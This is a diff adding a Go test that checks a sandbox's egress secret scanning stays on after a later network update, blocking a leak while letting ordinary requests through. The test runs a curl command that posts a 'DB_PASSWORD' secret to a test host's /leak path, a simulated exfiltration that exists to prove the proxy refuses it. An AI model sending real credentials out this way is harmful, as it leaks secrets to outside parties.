@@ -190,3 +190,49 @@ func TestEnvironmentSecret(t *testing.T) {
 		t.Errorf("Info's JSON holds the value: %s", b)
 	}
 }
+
+// TestScanStaysOn: once scanning is on (a tainted session turned it on), a later
+// SetNetwork that says nothing of it (as the API's PUT …/network does) keeps it on
+// with its values: a request carrying one is refused at the proxy and never
+// reaches the origin, while an ordinary one passes.
+func TestScanStaysOn(t *testing.T) {
+	h := nethost.New(t)
+	o := nethost.StartOrigin(t, h, "origin.test")
+	m := newManager(t, Config{EgressRoots: o.Roots})
+	n := Network{Allow: []string{"origin.test"}, AllowPrivate: []netip.Prefix{h.Prefix},
+		DNSOverride: map[string]netip.Addr{"origin.test": h.Addr}}
+	info := create(t, m, CreateOptions{Network: &n})
+	ctx := context.Background()
+	const value = "Zk3xP9qLm2Vw8Rt5-session-read-it"
+	on := n
+	on.Scan = egress.Scan{On: true, Values: []string{value}}
+	if err := m.SetNetwork(ctx, alice, info.ID, on); err != nil {
+		t.Fatal(err)
+	}
+	if err := m.SetNetwork(ctx, alice, info.ID, n); err != nil { // no scan named
+		t.Fatal(err)
+	}
+	if got, err := m.Get(ctx, alice, info.ID); err != nil || !got.Network.Scan.On {
+		t.Fatalf("scan after a SetNetwork without it: %+v, %v", got.Network, err)
+	}
+	send := func(path, body string) string {
+		t.Helper()
+		res, err := m.Exec(ctx, alice, info.ID, ExecRequest{Argv: []string{"curl", "-sS", "--max-time", "30", "-o", "/dev/null",
+			"-w", "%{http_code}", "--data-binary", body, fmt.Sprintf("http://origin.test:%d%s", o.HTTP.Port(), path)}})
+		if err != nil {
+			t.Fatal(err)
+		}
+		return res.Stdout
+	}
+	if code := send("/leak", "DB_PASSWORD="+value); code == "200" {
+		t.Errorf("the secret was sent: HTTP %s", code)
+	}
+	if code := send("/ok", "hello"); code != "200" {
+		t.Errorf("an ordinary request: HTTP %s", code)
+	}
+	for _, r := range o.Requests() {
+		if r.Path == "/leak" || strings.Contains(string(r.Body), value) {
+			t.Errorf("the origin received %s %q", r.Path, r.Body)
+		}
+	}
+}
